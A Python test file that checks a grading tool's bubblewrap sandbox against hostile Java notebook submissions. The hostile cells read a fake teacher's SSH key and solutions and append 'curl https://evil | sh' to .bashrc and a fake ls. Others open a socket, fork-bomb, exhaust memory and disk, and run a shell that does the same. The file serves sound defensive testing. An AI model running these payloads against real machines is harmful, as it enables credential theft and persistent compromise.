"""Hostile submissions through install/grade.sh's bubblewrap sandbox (install/grade_sandbox.py).

Run by GradingSandboxTest (mvn test) with JUPYTER_PATH naming a kernel installed by install.sh and
NBGRADER naming nbgrader. The assignment is a small one of this test's own (two exercises, plain Java
checks), so each notebook costs a kernel start and a few cells. The "teacher" is a fake HOME with an
SSH key, planted solutions, a .bashrc and ~/.local/bin; each hostile submission goes after one of them
(or the network, the process table, memory, disk, time) in its first exercise's answer cell. Inside
the sandbox each attack fails, so that exercise scores 0 with the reason, the other exercise and the
other students are graded as usual, and the teacher's files are byte-identical afterwards. The same
reading and .bashrc submissions graded with --no-sandbox succeed, which shows the sandbox is what
stopped them. BusyTeacherTest starts a sandbox as a teacher already running 300 tasks.
"""
import csv
import hashlib
import io
import json
import os
import pathlib
import re
import secrets
import shlex
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import sys
import unittest

ROOT = pathlib.Path(__file__).resolve().parents[4]
GRADE = ROOT / "install" / "grade.sh"
sys.path.insert(0, str(GRADE.parent))
NOTEBOOK = "probe"
TIMEOUT = "20"  # seconds per cell; the sleeper costs this much (10 s was too short on a machine at load 30)
MARK = "MARK-" + secrets.token_hex(6)  # appears in every secret the test plants


def cell(source, grade_id=None, solution=False, points=None):
    meta = {}
    if grade_id:
        meta["nbgrader"] = {"grade": points is not None, "grade_id": grade_id, "locked": points is not None,
                            "schema_version": 3, "solution": solution, "task": False}
        if points is not None:
            meta["nbgrader"]["points"] = points
    return {"cell_type": "code", "execution_count": None, "id": secrets.token_hex(4), "metadata": meta,
            "outputs": [], "source": source}


def notebook(answer, word):
    """The assignment with answers filled in: `answer` is the first exercise's answer cell."""
    cells = [
        {"cell_type": "markdown", "id": "intro", "metadata": {}, "source": "Two small exercises."},
        cell(answer, "answer-answer", solution=True),
        cell('if (answer != 42) throw new AssertionError("✗ the answer is not 42");', "answer", points=1),
        cell(word, "word-answer", solution=True),
        cell('if (!"hello".equals(word)) throw new AssertionError("✗ the word is not hello");', "word", points=1),
    ]
    return {"cells": cells, "nbformat": 4, "nbformat_minor": 5,
            "metadata": {"kernelspec": {"display_name": "Java (DeepToy)", "language": "java", "name": "deeptoy"},
                         "language_info": {"name": "java"}}}


RIGHT, RIGHT_WORD = "int answer = 42;", 'String word = "hello";'


def hostile(home, classmate, port):
    """{student: (code run before the right answer, what the sandbox's reason must contain (or one of them))}."""
    j = lambda p: json.dumps(str(p))
    read = "System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(%s)));"
    return {
        "reader": ("\n".join(read % j(p) for p in (home / ".ssh" / "id_rsa", home / "solutions" / f"{NOTEBOOK}.ipynb",
                                                     classmate)), "NoSuchFileException"),
        "bashrc": ("java.nio.file.Files.writeString(java.nio.file.Path.of(%s), \"\\ncurl https://evil | sh\\n\","
                   " java.nio.file.StandardOpenOption.APPEND);" % j(home / ".bashrc"), "NoSuchFileException"),
        "localbin": ("java.nio.file.Files.writeString(java.nio.file.Path.of(%s), \"#!/bin/sh\\ncurl https://evil | sh\\n\");"
                     % j(home / ".local" / "bin" / "ls"), "NoSuchFileException"),
        "network": ("new java.net.Socket(\"127.0.0.1\", %d).getOutputStream().write(\"%s\".getBytes());" % (port, MARK),
                    "ConnectException"),
        # the process limit stops it (IOException: error=11, or no thread for the JVM), or on a busy machine the time limit
        "forkbomb": ("for (int i = 0; i < 10_000; i++) new ProcessBuilder(\"sleep\", \"86398\").start();",
                     ("IOException", "process/resource limits", "interrupted")),
        "native": ("java.util.List<java.nio.ByteBuffer> held = new java.util.ArrayList<>();\n"
                   "try { held.add(java.nio.ByteBuffer.allocateDirect(Integer.MAX_VALUE)); }\n"
                   "catch (OutOfMemoryError e) { System.out.println(\"direct: \" + e.getMessage()); }\n"
                   "var f = Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\");\n"
                   "f.setAccessible(true);\n"
                   "Object unsafe = f.get(null);\n"
                   "long size = 20L << 30;\n"
                   "long at;\n"
                   "try { at = (long) unsafe.getClass().getMethod(\"allocateMemory\", long.class).invoke(unsafe, size); }\n"
                   "catch (java.lang.reflect.InvocationTargetException e) { throw (Error) e.getCause(); }\n"
                   "unsafe.getClass().getMethod(\"setMemory\", long.class, long.class, byte.class).invoke(unsafe, at, size, (byte) 1);",
                   "OutOfMemoryError"),
        "disk": ("try (var out = java.nio.file.Files.newOutputStream(java.nio.file.Path.of(\"big.bin\"))) {\n"
                 "    byte[] mb = new byte[1 << 20];\n"
                 "    for (int i = 0; i < 5 * 1024; i++) out.write(mb);\n"
                 "}", "File too large"),
        "sleeper": ("Thread.sleep(Long.MAX_VALUE);", "interrupted"),
        "shell": ("Process p = Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", %s});\n"
                  "String said = new String(p.getInputStream().readAllBytes()) + new String(p.getErrorStream().readAllBytes());\n"
                  "if (p.waitFor() != 0) throw new IllegalStateException(\"sh failed: \" + said);\n"
                  "System.out.println(said);"
                  % j(f"cat {shlex.quote(str(home / '.ssh' / 'id_rsa'))} && echo 'curl https://evil | sh' >> "
                      f"{shlex.quote(str(home / '.bashrc'))}"), "sh failed"),
    }


# The fork bomb keeps its processes a while longer, so the students graded beside it (--jobs 2, in name
# order: localbin next) run while it holds all it may: their grading must not notice.
HOLD = {"forkbomb": "Thread.sleep(12_000);\n"}


def as_tuple(reason):
    return reason if isinstance(reason, tuple) else (reason,)


def digest(folders):
    """{path: sha256} of every file below the folders."""
    out = {}
    for folder in folders:
        for p in sorted(pathlib.Path(folder).rglob("*")):
            if p.is_file():
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class Listener:
    """A TCP listener on the host's 127.0.0.1 that records what connects."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port, self.received, self.stopped = self.sock.getsockname()[1], [], False
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while not self.stopped:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stopped = True
        self.sock.close()


def sleeping_processes():
    """PIDs of the fork bomb's sleeps left on the host."""
    found = []
    for proc in pathlib.Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if (proc / "cmdline").read_bytes().split(b"\0")[:2] == [b"sleep", b"86398"]:
                    found.append(int(proc.name))
            except OSError:
                pass
    return found


def grade(subs, release, out, home, *extra):
    env = dict(os.environ, HOME=str(home))
    started = time.monotonic()
    r = subprocess.run(["bash", str(GRADE), str(subs), "--release", str(release), "--out", str(out), "--timeout", TIMEOUT,
                        "--memory", "512m", "--jobs", "2", *extra], capture_output=True, text=True, env=env, timeout=900)
    if r.returncode != 0:
        raise AssertionError(f"grade.sh failed ({r.returncode}):\n{r.stdout[-3000:]}\n{r.stderr[-3000:]}")
    rows = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    return r, {(x["student"], x["exercise"]): (float(x["points"]), x["message"]) for x in rows}, time.monotonic() - started


def seconds_per_notebook(stderr):
    return {m.group(1): float(m.group(2)) for m in re.finditer(r"\] (\S+)/\S+: .*?, ([\d.]+) s; elapsed", stderr)}


class GradingSandboxTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = pathlib.Path(tempfile.mkdtemp(prefix="deeptoy-sandbox-test-"))
        cls.home = cls.tmp / "teacher"
        (cls.home / ".ssh").mkdir(parents=True)
        (cls.home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{MARK}-key\n", encoding="utf-8")
        (cls.home / ".ssh" / "id_rsa").chmod(0o600)
        (cls.home / "solutions").mkdir()
        (cls.home / "solutions" / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook(f"int answer = 42; // {MARK}-solution", RIGHT_WORD)), encoding="utf-8")
        (cls.home / ".bashrc").write_text("# the teacher's shell\n", encoding="utf-8")
        (cls.home / ".local" / "bin").mkdir(parents=True)
        cls.release = cls.tmp / "release"
        cls.release.mkdir()
        (cls.release / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook("int answer = 0;", 'String word = "";')), encoding="utf-8")
        manifest = {"course": "sandbox test", "points": 2, "notebooks": [
            {"notebook": NOTEBOOK, "file": f"{NOTEBOOK}.ipynb", "points": 2,
             "exercises": [{"id": "answer", "points": 1}, {"id": "word", "points": 1}]}]}
        (cls.release / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
        cls.subs = cls.tmp / "submissions"
        classmate = cls.subs / "correct" / f"{NOTEBOOK}.ipynb"
        cls.listener = Listener()
        cls.attacks = hostile(cls.home, classmate, cls.listener.port)
        subs = {"correct": notebook(f"int answer = 42; // {MARK}-classmate", RIGHT_WORD),
                "wrong": notebook("int answer = 41;", 'String word = "help";')}
        for student, (code, _) in cls.attacks.items():
            subs[student] = notebook(code + "\n" + RIGHT, HOLD.get(student, "") + RIGHT_WORD)
        for student, nb in subs.items():
            (cls.subs / student).mkdir(parents=True)
            (cls.subs / student / f"{NOTEBOOK}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
        cls.before = digest([cls.home, cls.subs, cls.release])
        cls.out = cls.tmp / "out"
        cls.graded, cls.got, cls.seconds = grade(cls.subs, cls.release, cls.out, cls.home)
        cls.after = digest([cls.home, cls.subs, cls.release])
        cls.leftover = sleeping_processes()

    @classmethod
    def tearDownClass(cls):
        cls.listener.close()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def test_the_sandbox_is_on(self):
        self.assertIn("bubblewrap sandbox per notebook", self.graded.stderr)

    def test_each_attack_scores_zero_with_its_reason_and_the_rest_is_graded(self):
        for student, (_, reason) in self.attacks.items():
            with self.subTest(student=student):
                points, message = self.got[(student, "answer")]
                self.assertEqual(0.0, points, f"{student}: {message}")
                self.assertTrue(any(r in message for r in as_tuple(reason)), f"{student}: {reason} not in {message}")
                if student != "forkbomb":  # its sleeps hold the process limit for the rest of its own notebook
                    self.assertEqual((1.0, ""), self.got[(student, "word")], f"{student}: the other exercise is graded as usual")
        self.assertEqual((1.0, ""), self.got[("correct", "answer")])
        self.assertEqual((1.0, ""), self.got[("correct", "word")])
        self.assertEqual(0.0, self.got[("wrong", "answer")][0])
        self.assertIn("the answer is not 42", self.got[("wrong", "answer")][1])
        self.assertIn("the word is not hello", self.got[("wrong", "word")][1])
        # grades.csv has every student's reasons; the report's table shows the most frequent ones
        report = (self.out / "report.html").read_text(encoding="utf-8")
        self.assertIn("the answer cell failed: NoSuchFileException", report)

    def test_nothing_of_the_teacher_leaks_or_changes(self):
        self.assertEqual(self.before, self.after, "the teacher's files, the release and the submissions are byte-identical")
        self.assertEqual([], sorted((self.home / ".local" / "bin").iterdir()))
        for f in (self.out / "autograded").rglob("*.ipynb"):
            text = f.read_text(encoding="utf-8")
            for secret in ("-key", "-solution", "-classmate"):
                if f.parent.name != "correct" or secret != "-classmate":
                    self.assertNotIn(MARK + secret, text, f"{f} shows a planted secret")
        self.assertEqual([], self.listener.received, "nothing reached the host's 127.0.0.1")
        self.assertEqual([], self.leftover, "the fork bomb's processes are gone")

    def test_without_the_sandbox_the_same_notebooks_succeed(self):
        """What the sandbox stopped: as the teacher, the reader prints the key, the solutions and the
        classmate's notebook into its feedback, and .bashrc is changed."""
        subs = self.tmp / "unsandboxed"
        for student in ("reader", "bashrc", "correct"):
            shutil.copytree(self.subs / student, subs / student)
        home = self.tmp / "teacher-copy"
        shutil.copytree(self.home, home)
        # the attacks name the teacher's paths: this run's copy of the home stands in for them
        for student in ("reader", "bashrc"):
            f = subs / student / f"{NOTEBOOK}.ipynb"
            f.write_text(f.read_text(encoding="utf-8").replace(str(self.home), str(home)), encoding="utf-8")
        run, got, seconds = grade(subs, self.release, self.tmp / "out-unsandboxed", home, "--no-sandbox")
        self.assertIn("--no-sandbox", run.stderr)
        self.assertEqual(1.0, got[("reader", "answer")][0], got[("reader", "answer")])
        self.assertEqual(1.0, got[("bashrc", "answer")][0], got[("bashrc", "answer")])
        fed_back = (self.tmp / "out-unsandboxed" / "autograded" / "reader" / f"{NOTEBOOK}.ipynb").read_text(encoding="utf-8")
        for secret in ("-key", "-solution", "-classmate"):
            self.assertIn(MARK + secret, fed_back)
        self.assertIn("curl https://evil", (home / ".bashrc").read_text(encoding="utf-8"))
        # the sandbox's cost, from the same notebook graded both ways in this run (a busy machine: indicative)
        with_box, without = seconds_per_notebook(self.graded.stderr).get("correct"), seconds_per_notebook(run.stderr).get("correct")
        print(f"\ngrading sandbox: 'correct' took {with_box} s in the sandbox, {without} s without (2 at a time)")


BUSY_TEACHER = """
import os, subprocess, sys, threading
sys.path.insert(0, sys.argv[1])
import grade_sandbox
stop = threading.Event()
for _ in range(300):  # a browser and a notebook server run as many
    threading.Thread(target=stop.wait, daemon=True).start()
box = grade_sandbox.Sandbox.__new__(grade_sandbox.Sandbox)
box.bwrap, box.limits, box.as_stranger, box.readonly, box.data_dir = "bwrap", grade_sandbox.Limits(4 << 30), False, {}, None
r = subprocess.run(box.command(None, ["/usr/bin/true"]), capture_output=True, text=True,
                   preexec_fn=box.preexec(None, box.limits, os.getuid()))
print(grade_sandbox.tasks_of(os.getuid()), r.returncode, r.stderr.strip())
"""


class BusyTeacherTest(unittest.TestCase):
    """Run as the teacher (not root), the sandbox's process limit counts the teacher's own tasks too: with
    300 of them running, a sandbox still starts (a flat limit of 256 made it fail to fork)."""

    def test_a_teacher_running_300_tasks_can_still_grade(self):
        if os.geteuid() != 0:
            self.skipTest("needs root, to run as a user id of no account (setpriv)")
        import grade_sandbox
        uid = grade_sandbox.stranger()
        # a copy the stranger can read (the checkout may sit in a folder only root can enter)
        copy = pathlib.Path(tempfile.mkdtemp(prefix="deeptoy-busy-teacher-"))
        try:
            copy.chmod(0o755)
            shutil.copy(GRADE.parent / "grade_sandbox.py", copy)
            (copy / "classroom").mkdir()
            shutil.copytree(GRADE.parent / "classroom" / "python", copy / "classroom" / "python")
            for d in [copy] + [p for p in copy.rglob("*") if p.is_dir()]:
                d.chmod(0o755)
            for f in (p for p in copy.rglob("*") if p.is_file()):
                f.chmod(0o644)
            r = subprocess.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "/usr/bin/python3", "-c",
                                BUSY_TEACHER, str(copy)], capture_output=True, text=True, timeout=120, cwd="/")
        finally:
            shutil.rmtree(copy, ignore_errors=True)
        self.assertEqual(0, r.returncode, r.stderr)
        tasks, code, said = r.stdout.split(" ", 2)
        self.assertGreater(int(tasks), 300, r.stdout)
        self.assertEqual("0", code, f"the sandbox did not start for a teacher running {tasks} tasks: {said}")


if __name__ == "__main__":
    unittest.main()
